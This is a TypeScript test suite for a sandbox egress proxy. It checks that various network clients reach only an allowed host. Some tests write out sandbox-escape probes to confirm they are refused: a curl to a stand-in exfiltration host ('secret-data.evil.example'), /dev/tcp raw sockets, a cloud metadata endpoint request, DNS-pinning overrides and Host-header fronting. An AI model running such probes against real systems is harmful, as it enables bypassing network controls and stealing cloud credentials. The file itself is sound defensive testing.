import { mkdtempSync, rmSync } from 'node:fs';
import { createServer } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { egressRequests, publications } from '../../src/store/schema.ts';
import { startEgress } from '../../src/vault/egress/control.ts';
import type { ListenerHandle, ListenerRole } from '../../src/vault/egress/protocol.ts';
import { createTestDatabase } from '../support/database.ts';
import { createFixture } from '../support/fixture.ts';
import { silent } from '../vault/support/egress.ts';
import { startUpstream } from '../vault/support/upstream.ts';
import { createHarness, finish, type Harness, until } from './harness.ts';

const database = await createTestDatabase();
const folder = mkdtempSync(join(tmpdir(), 'tagalong-transparent-'));
const upstream = await startUpstream();
const internal = createServer((request, response) => {
  response.end(`internal ${request.url} ${request.headers['x-tagalong-session']}\n`);
});
await new Promise<void>((resolve) => internal.listen(join(folder, 'internal.sock'), resolve));
const host = 'api.example.com';
const control = await startEgress({
  logger: silent,
  start: {
    databaseUrl: database.url,
    rootKey: Buffer.alloc(32, 7).toString('base64url'),
    upstreams: [{ host, pathPrefix: '/', target: `${upstream.origin}/`, scope: 'all' }],
    modelCredentials: {},
    platformSocket: join(folder, 'platform.sock'),
    internalSocket: join(folder, 'internal.sock'),
  },
});
const fixture = await createFixture(database.database, { provider: 'slack' });
await database.database
  .update(publications)
  .set({ policy: { allowed_hosts: [host] } })
  .where(eq(publications.id, fixture.publicationId));
const { caCertificatePem } = await control.openSession(fixture);
let harness: Harness;

beforeAll(async () => {
  harness = await createHarness();
  upstream.answer = (request, response) => response.end(`${request.method} ${request.url} through\n`);
});
afterAll(async () => {
  await control.stop();
  internal.close();
  upstream.close();
  harness.clear();
  rmSync(folder, { recursive: true, force: true });
});

/** What is run has no proxy variable left. */
const withoutProxy = `unset HTTP_PROXY HTTPS_PROXY http_proxy https_proxy ALL_PROXY all_proxy NODE_USE_ENV_PROXY
`;
const run = (script: string) =>
  harness.run(withoutProxy + script, {
    caCertificatePem,
    onListener: (handle: ListenerHandle, role: ListenerRole) =>
      control.addListener(fixture.sessionId, handle, role),
  });
const records = async () => {
  await new Promise((resolve) => setTimeout(resolve, 400));
  return database.database
    .select()
    .from(egressRequests)
    .where(eq(egressRequests.sessionId, fixture.sessionId))
    .orderBy(egressRequests.id);
};

const clients: Record<string, { needs: string; script: string }> = {
  curl: { needs: 'curl', script: `curl -sS https://${host}/curl` },
  git: {
    needs: 'git',
    script: `git ls-remote https://${host}/git 2>&1; echo; curl -sS https://${host}/after`,
  },
  'node https': {
    needs: 'node',
    script: `node -e 'require("https").get("https://${host}/node", (r) => r.pipe(process.stdout))'`,
  },
  'node fetch': {
    needs: 'node',
    script: `node -e 'fetch("https://${host}/fetch").then((r) => r.text()).then(console.log)'`,
  },
  'the system’s own node': {
    needs: '/usr/bin/node',
    script: `/usr/bin/node -e 'process.stdout.write(""); require("https").get("https://${host}/old", (r) => r.pipe(process.stdout))'`,
  },
  python: {
    needs: '/usr/bin/python3',
    script: `/usr/bin/python3 -c 'import urllib.request as u; print(u.urlopen("https://${host}/py").read().decode())'`,
  },
  perl: {
    needs: 'perl',
    script: `perl -MIO::Socket::SSL -e 1 2>/dev/null || { curl -sS https://${host}/no-perl-tls; exit; }
      perl -MIO::Socket::SSL -e 'my $s = IO::Socket::SSL->new(PeerHost => "${host}:443", SSL_hostname => "${host}", SSL_ca_file => $ENV{SSL_CERT_FILE}) or die; print $s "GET /perl HTTP/1.1\\r\\nHost: ${host}\\r\\nConnection: close\\r\\n\\r\\n"; print while <$s>'`,
  },
  java: {
    needs: 'java',
    script: `cat > /tmp/A.java <<'J'
class A { public static void main(String[] a) throws Exception {
  System.out.println(new String(new java.net.URL("https://${host}/java").openStream().readAllBytes()));
} }
J
java -Xmx128m /tmp/A.java 2>&1`,
  },
};

for (const [name, { needs, script }] of Object.entries(clients)) {
  test(`${name} gets through without any proxy variable`, async (context) => {
    if ((await harness.run(`command -v ${needs}`)).code !== 0) context.skip(`${needs} is not installed`);
    const { stdout, stderr } = await run(script);
    expect(stdout + stderr).toMatch(/GET \S+ through/);
  });
}

test('requests that came that way are recorded as any other', async () => {
  await run(`curl -sS 'https://${host}/recorded?token=1'`);
  expect((await records()).find(({ path }) => path === '/recorded')).toMatchObject({
    method: 'GET',
    scheme: 'https',
    host,
    port: 443,
    decision: 'allowed',
    rule: `host:${host}`,
  });
});

test('tagalong.internal is reached over plain http, as this session', async () => {
  const { stdout } = await run('curl -sS http://tagalong.internal/mcp/slack');
  expect(stdout).toBe(`internal /mcp/slack ${fixture.sessionId}\n`);
});

test('an allowed host over plain http is refused in words', async () => {
  const { stdout } = await run(`curl -sS http://${host}/x`);
  expect(JSON.parse(stdout).error.rule).toBe('scheme.https_only');
});

test('a name that is not allowed does not exist, and asking for it tells nobody', async () => {
  const before = upstream.seen.length;
  const { stdout } = await run(`
    curl -sS https://secret-data.evil.example/ 2>&1 | head -1
    getent hosts secret-data.evil.example || echo 'no such name'
    getent ahosts ${host} | head -1`);
  expect(stdout).toMatch(/Could not resolve host/);
  expect(stdout).toMatch(/no such name\n198\.1[89]\.\d+\.\d+/);
  expect(upstream.seen.length).toBe(before);
  const refused = (await records()).filter(({ rule }) => rule === 'dns.not_allowed');
  expect(refused.filter(({ host: name }) => name === 'secret-data.evil.example')).toHaveLength(1);
});

test('an address of its own choice leads a client nowhere else', async () => {
  const before = upstream.seen.length;
  const { stdout } = await run(`
    curl -sS --max-time 5 --resolve evil.example:443:93.184.216.34 https://evil.example/ 2>&1 | head -1
    curl -sSk --max-time 5 https://93.184.216.34/ 2>&1 | head -1
    curl -sS --max-time 5 http://169.254.169.254/latest/meta-data/; echo
    curl -sS --max-time 5 --connect-to ::93.184.216.34:443 https://${host}/pinned
    (exec 3<>/dev/tcp/8.8.8.8/53) 2>/dev/null && echo open || echo closed
    (exec 3<>/dev/tcp/1.1.1.1/853) 2>/dev/null && echo open || echo closed
    curl -sS --max-time 5 -6 'https://[2606:4700::1111]/' 2>&1 | head -1 | cut -c1-10`);
  const lines = stdout.trim().split('\n');
  expect(lines[0]).toMatch(/^curl: \(35\)/);
  expect(lines[1]).toMatch(/^curl: \(35\)/);
  expect(JSON.parse(lines[2] ?? '').error.rule).toBe('host.ip_literal');
  expect(lines.slice(3)).toEqual([
    'GET /pinned through',
    'closed',
    'closed',
    expect.stringMatching(/^curl: \(7/),
  ]);
  expect(upstream.seen.length).toBe(before + 1);
  const rules = (await records()).map(({ rule }) => rule);
  expect(rules).toContain('host.not_allowed');
  expect(rules).toContain('tls.name');
});

test('Host and TLS must name the same', async () => {
  const { stdout } = await run(
    `curl -sS -H 'Host: evil.example' https://${host}/fronted -w '%{http_code}' -o /dev/null`,
  );
  expect(stdout).toBe('421');
});

test('after the egress process died, its successor serves the same sandbox, names too', async () => {
  const sandbox = await harness.port.open(
    harness.spec(
      [
        '/bin/bash',
        '-c',
        `${withoutProxy} read; curl -sS --retry 20 --retry-all-errors --retry-delay 1 https://${host}/again`,
      ],
      {
        caCertificatePem,
        onListener: (handle, role) => control.addListener(fixture.sessionId, handle, role),
      },
    ),
  );
  const first = control.pid;
  process.kill(first ?? 0, 'SIGKILL');
  await until(() => control.pid !== undefined && control.pid !== first);
  sandbox.stdin.write('\n');
  expect((await finish(sandbox)).stdout).toContain('GET /again through');
});
